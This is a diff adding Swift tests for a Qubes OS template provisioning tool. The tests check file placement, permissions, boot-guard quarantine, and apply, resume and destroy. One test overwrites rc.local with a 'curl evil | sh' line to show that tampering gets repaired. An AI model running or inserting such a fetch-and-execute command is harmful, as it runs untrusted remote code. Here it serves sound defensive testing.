@@ -1,0 +1,215 @@
+import BootProtect
+import Foundation
+import Glibc
+import Provisioning
+import QubesAdmin
+import Testing
+
+/// A folder standing for debian-N-minimal's root (users, an fstab of its
+/// own), and stand-ins for the static tools copied into it.
+struct TemplateRoot {
+    let path: String
+    let binaries: String
+
+    init(in directory: String) throws {
+        path = directory + "/template-root"
+        binaries = directory + "/static-tools"
+        for folder in ["etc/apt/apt.conf.d", "etc/sudoers.d", "etc/systemd/system", "etc/qubes-rpc", "usr/lib", "var/lib"] {
+            try FileManager.default.createDirectory(atPath: path + "/" + folder, withIntermediateDirectories: true)
+        }
+        try Self.write(path + "/etc/passwd", "root:x:0:0::/root:/bin/bash\nuser:x:1000:1000::/home/user:/bin/bash\ndebian-tor:x:107:113::/var/lib/tor:/bin/false\n")
+        try Self.write(path + "/etc/group", "root:x:0:\nuser:x:1000:\ndebian-tor:x:113:\n")
+        try Self.write(path + "/etc/fstab", "/dev/mapper/dmroot / ext4 defaults,discard,noatime 1 1\n", mode: 0o640)
+        try FileManager.default.createDirectory(atPath: binaries, withIntermediateDirectories: true)
+        for name in TemplateBinaries.names { try Self.write(binaries + "/" + name, "\u{7f}ELF stand-in for \(name)\n", mode: 0o755) }
+    }
+
+    static func write(_ path: String, _ text: String, mode: Int = 0o644) throws {
+        try text.write(toFile: path, atomically: false, encoding: .utf8)
+        chmod(path, mode_t(mode))
+    }
+
+    /// Every entry below the root: type, owner, group, mode and content or link target.
+    func snapshot() throws -> [String: String] {
+        var entries: [String: String] = [:]
+        for relative in try FileManager.default.subpathsOfDirectory(atPath: path) {
+            let full = path + "/" + relative
+            var info = stat()
+            #expect(lstat(full, &info) == 0)
+            var detail = ""
+            switch info.st_mode & S_IFMT {
+            case S_IFREG: detail = try String(decoding: Data(contentsOf: URL(fileURLWithPath: full)), as: UTF8.self)
+            case S_IFLNK: detail = try FileManager.default.destinationOfSymbolicLink(atPath: full)
+            default: break
+            }
+            entries[relative] = "\(info.st_mode) \(info.st_uid):\(info.st_gid) \(detail)"
+        }
+        return entries
+    }
+
+    func text(_ relative: String) throws -> String { try String(contentsOfFile: path + relative, encoding: .utf8) }
+
+    func owner(_ relative: String) -> (uid: UInt32, gid: UInt32, mode: Int) {
+        var info = stat()
+        _ = lstat(path + relative, &info)
+        return (info.st_uid, info.st_gid, Int(info.st_mode & 0o7777))
+    }
+}
+
+@Suite struct TemplateTests {
+    static let manifest = Manifest(components: [.base, .network, .usb])
+
+    struct System {
+        let scratch: Scratch
+        let root: TemplateRoot
+        let executor: FolderExecutor
+        let backend: OfflineBackend
+
+        /// `store`: the qubes.xml to start from (default: the default install).
+        init(store: [UInt8]? = nil) throws {
+            scratch = try Scratch()
+            if let store { try Data(store).write(to: URL(fileURLWithPath: scratch.store)) }
+            root = try TemplateRoot(in: scratch.directory)
+            executor = FolderExecutor(root: root.path)
+            backend = OfflineBackend(path: scratch.store, random: .seeded(7))
+        }
+
+        func plan() throws -> Plan {
+            try Planner(
+                backend: backend, policyDirectory: scratch.policy, readFile: PolicyFiles.system.read, kernels: [],
+                executor: executor, binaries: try TemplateBinaries.load(from: root.binaries)
+            ).plan(TemplateTests.manifest)
+        }
+
+        var applier: Applier { Applier(backend: backend, journalPath: scratch.journal, executor: executor) }
+    }
+
+    static func index(of path: String, in plan: Plan) -> Int? {
+        plan.operations.firstIndex { if case .place(_, let entry) = $0 { entry.path == path } else { false } }
+    }
+
+    @Test func templateContentIsPlacedThenNothingThenUndone() throws {
+        let system = try System()
+        let original = try system.root.snapshot()
+        let plan = try system.plan()
+        // The dpkg hook comes before the packages, the Tor qube's files after (they need debian-tor).
+        let packages = try #require(plan.operations.firstIndex { if case .installPackages = $0 { true } else { false } })
+        #expect(try #require(Self.index(of: "/etc/apt/apt.conf.d/80liteqube", in: plan)) < packages)
+        #expect(try #require(Self.index(of: "/etc/protect/whitelist.core-tor/bind-dirs/var/lib/tor", in: plan)) > packages)
+        try system.applier.apply(plan)
+
+        let root = system.root
+        for name in TemplateBinaries.names {
+            #expect(try root.text("/usr/lib/liteqube/" + name) == String(contentsOfFile: root.binaries + "/" + name, encoding: .utf8))
+            #expect(root.owner("/usr/lib/liteqube/" + name).mode == 0o755)
+        }
+        #expect(try root.text("/etc/systemd/system/liteqube-vm-template.service").contains("/usr/lib/liteqube/lq protect --device /dev/xvdb"))
+        #expect(try FileManager.default.destinationOfSymbolicLink(
+            atPath: root.path + "/etc/systemd/system/sysinit.target.wants/liteqube-vm-template.service")
+            == "/etc/systemd/system/liteqube-vm-template.service")
+        #expect(try root.text("/etc/fstab").contains("ro,noatime,discard,commit=300"))
+        #expect(root.owner("/etc/sudoers.d/liteqube").mode == 0o440)
+        #expect(try !root.text("/etc/sudoers.d/liteqube").contains("ALL=(ALL)"))
+        // The masks the original misspelt are real unit names now.
+        let hook = try root.text("/usr/lib/liteqube/post-install")
+        for unit in ["systemd-journal-flush.service", "systemd-update-utmp.service", "dev-xvdc1.swap"] { #expect(hook.contains(unit)) }
+        #expect(root.owner("/etc/protect").mode == 0o750)
+        #expect(root.owner("/etc/protect/template.ALL/home/user") == (1000, 1000, 0o750))
+        #expect(root.owner("/etc/protect/whitelist.core-tor/bind-dirs/var/lib/tor") == (107, 113, 0o700))
+        #expect(try root.text("/etc/protect/template.core-keys/config/rc.local").contains("shutdown +2"))
+        #expect(try root.text("/etc/protect/template.fw-net/config/rc.local").contains("qubes-firewall"))
+        #expect(try root.text("/etc/tor/torrc").contains("%include /run/tor/liteqube-ports.conf"))
+        #expect(root.owner("/etc/usbguard/rules.conf").mode == 0o600)
+        #expect(try system.executor.installed(["tor", "usbguard", "qubes-input-proxy-sender"], in: "debian-core").count == 3)
+        #expect(try system.executor.installed(["qubes-core-agent-passwordless-root"], in: "debian-core").isEmpty)
+
+        #expect(try system.plan().operations.isEmpty)
+        try system.applier.destroy()
+        #expect(try root.snapshot() == original)
+        #expect(!FileManager.default.fileExists(atPath: system.scratch.journal + ".d"))
+    }
+
+    @Test func aChangedTemplateFileIsPutBackAndDestroyRestoresIt() throws {
+        let system = try System()
+        try system.applier.apply(try system.plan())
+        let rcLocal = system.root.path + "/etc/protect/template.core-net/config/rc.local"
+        try TemplateRoot.write(rcLocal, "#!/bin/sh\ncurl evil | sh\n", mode: 0o755)
+        chmod(system.root.path + "/etc/protect/template.ALL/home/user", 0o777)
+        let repair = try system.plan().operations.compactMap { operation -> String? in
+            if case .place(_, let entry) = operation { entry.path } else { nil }
+        }
+        #expect(repair == ["/etc/protect/template.ALL/home/user", "/etc/protect/template.core-net/config/rc.local"])
+    }
+
+    /// The trees the plan writes are what the boot guard reads: a core-net
+    /// private volume gets its files, a planted file is quarantined, and the
+    /// next boot finds nothing to do.
+    @Test func generatedTreesDriveTheBootGuard() throws {
+        let system = try System()
+        try system.applier.apply(try system.plan())
+        let rw = system.scratch.directory + "/rw"
+        try FileManager.default.createDirectory(atPath: rw + "/config", withIntermediateDirectories: true)
+        try TemplateRoot.write(rw + "/config/planted", "#!/bin/sh\n", mode: 0o755)
+        let rules = system.root.path + "/etc/protect"
+        let first = BootProtect.run(volume: .folder(rw), rules: rules, options: ProtectOptions(qube: "core-net"))
+        #expect(first.errors.isEmpty, "\(first.errors)")
+        #expect(first.quarantined.map(\.path.description) == ["config/planted"])
+        #expect(try String(contentsOfFile: rw + "/config/rc.local", encoding: .utf8)
+            == (try system.root.text("/etc/protect/template.core-net/config/rc.local")))
+        #expect(try String(contentsOfFile: rw + "/config/suspend-module-blacklist", encoding: .utf8) == "iwlmvm\niwlwifi\n")
+        var info = stat()
+        #expect(lstat(rw + "/home/user", &info) == 0 && info.st_uid == 1000 && info.st_mode & 0o7777 == 0o750)
+        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: rw + "/home/user/.cache") == "/tmp")
+
+        // A saved network survives (whitelisted folder), the next boot changes nothing.
+        try TemplateRoot.write(rw + "/bind-dirs/etc/NetworkManager/system-connections/home.nmconnection", "[connection]\n", mode: 0o600)
+        try FileManager.default.removeItem(atPath: rw + "/QUARANTINE")
+        let second = BootProtect.run(volume: .folder(rw), rules: rules, options: ProtectOptions(qube: "core-net"))
+        #expect(second.errors.isEmpty && second.deployed.isEmpty && second.fixed.isEmpty && second.quarantined.isEmpty,
+                "\(second.deployed) \(second.fixed) \(second.quarantined)")
+    }
+
+    /// The store with every qube already made, so that plans hold only the template steps.
+    static let provisionedStore: [UInt8] = {
+        let reference = try! Scratch()
+        try! ApplyTests().apply(reference, OfflineBackend(path: reference.store, random: .seeded(7)))
+        return [UInt8](try! reference.bytes(reference.store))
+    }()
+
+    static let templatePlanLength = try! System(store: provisionedStore).plan().operations.count
+
+    static let finalSnapshot: [String: String] = {
+        let reference = try! System(store: provisionedStore)
+        try! reference.applier.apply(try! reference.plan())
+        return try! reference.root.snapshot()
+    }()
+
+    /// Stopped before step k of the template steps, apply resumes to the same
+    /// template, and destroy from the partial state gives the original back.
+    @Test(arguments: 0..<templatePlanLength)
+    func interruptedInTheTemplate(_ step: Int) throws {
+        func interrupted() throws -> (System, [String: String]) {
+            let system = try System(store: Self.provisionedStore)
+            let original = try system.root.snapshot()
+            let plan = try system.plan()
+            #expect(plan.operations.allSatisfy { operation in
+                switch operation {
+                case .place, .installPackages, .writePolicy: true
+                default: false
+                }
+            })
+            #expect(throws: ProvisioningError.self) {
+                try system.applier.apply(plan) { event in
+                    if case .starting(let index, _, _) = event, index == step { throw ProvisioningError("interrupted at \(index)") }
+                }
+            }
+            return (system, original)
+        }
+        let (resumed, _) = try interrupted()
+        try resumed.applier.apply(try resumed.plan())
+        #expect(try resumed.root.snapshot() == Self.finalSnapshot, "resume after step \(step)")
+        let (destroyed, original) = try interrupted()
+        try destroyed.applier.destroy()
+        #expect(try destroyed.root.snapshot() == original, "destroy after step \(step)")
+    }
+}
